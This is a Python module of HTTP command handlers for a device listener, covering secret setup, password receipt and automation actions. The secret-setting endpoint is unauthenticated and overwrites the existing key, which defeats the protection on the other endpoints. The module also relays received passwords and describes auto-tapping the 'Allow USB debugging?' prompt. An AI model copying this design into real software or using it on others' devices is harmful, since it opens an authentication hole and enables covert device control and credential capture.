"""
=============================================================================
COMMAND ENDPOINTS
=============================================================================

    POST /set-secret   {"secretKey"}                          open
    POST /data         {"secretKey", "passwordType", "password"}   protected
    POST /command      {"secretKey", "action"}                protected

/command actions:

    triggerAdbDialogTap        Acknowledge only. The automation engine taps
                               the "Allow USB debugging?" dialog on its own
                               when the dialog appears.
    openAccessibilitySettings  AutomationController.open_settings_ui()

Authentication for the protected endpoints happens in the Router; by the
time a handler here runs, the secret has already been checked.

=============================================================================
"""

import logging
from typing import Callable, Dict

from ..collaborators import AutomationController, NotificationSink
from ..http.request import Request
from ..http.response import Response, bad_request, ok
from ..http.router import Router
from ..store import SECRET_KEY_PREF, SecretStore


logger = logging.getLogger(__name__)


TRIGGER_ADB_DIALOG_TAP = "triggerAdbDialogTap"
OPEN_ACCESSIBILITY_SETTINGS = "openAccessibilitySettings"


class CommandHandlers:
    """
    The three operations the listener exposes.

    Usage:
        handlers = CommandHandlers(store, automation, sink)
        handlers.register(router)
    """

    def __init__(
        self,
        store: SecretStore,
        automation: AutomationController,
        sink: NotificationSink,
    ):
        self.store = store
        self.automation = automation
        self.sink = sink

        self._actions: Dict[str, Callable[[], Response]] = {
            TRIGGER_ADB_DIALOG_TAP: self._trigger_adb_dialog_tap,
            OPEN_ACCESSIBILITY_SETTINGS: self._open_accessibility_settings,
        }

    def register(self, router: Router) -> None:
        router.add_route("/set-secret", self.set_secret)
        router.add_route("/data", self.receive_data, protected=True)
        router.add_route("/command", self.run_command, protected=True)

    # =========================================================================
    # /set-secret
    # =========================================================================

    def set_secret(self, request: Request) -> Response:
        """
        Store a new shared secret. Any existing secret is overwritten.
        """
        secret = request.payload.get_str("secretKey")
        if not secret.strip():
            logger.warning(f"Empty secret key from {request.client_address[0]}")
            return bad_request("Secret key cannot be empty.")

        self.store.set(SECRET_KEY_PREF, secret)
        logger.info(f"Secret key set by {request.client_address[0]}")
        return ok("Secret key set.")

    # =========================================================================
    # /data
    # =========================================================================

    def receive_data(self, request: Request) -> Response:
        password_type = request.payload.get_str("passwordType")
        password = request.payload.get_str("password")

        self.sink.publish(password_type, password)

        logger.info(f"Password data received: type={password_type!r}")
        return ok("Password data received.")

    # =========================================================================
    # /command
    # =========================================================================

    def run_command(self, request: Request) -> Response:
        action = request.payload.get_str("action")
        logger.info(f"Command action: {action!r}")

        run = self._actions.get(action)
        if run is None:
            return bad_request("Unknown command action.")
        return run()

    def _trigger_adb_dialog_tap(self) -> Response:
        return ok("ADB dialog tap command acknowledged.")

    def _open_accessibility_settings(self) -> Response:
        self.automation.open_settings_ui()
        return ok("Opened Accessibility Settings.")
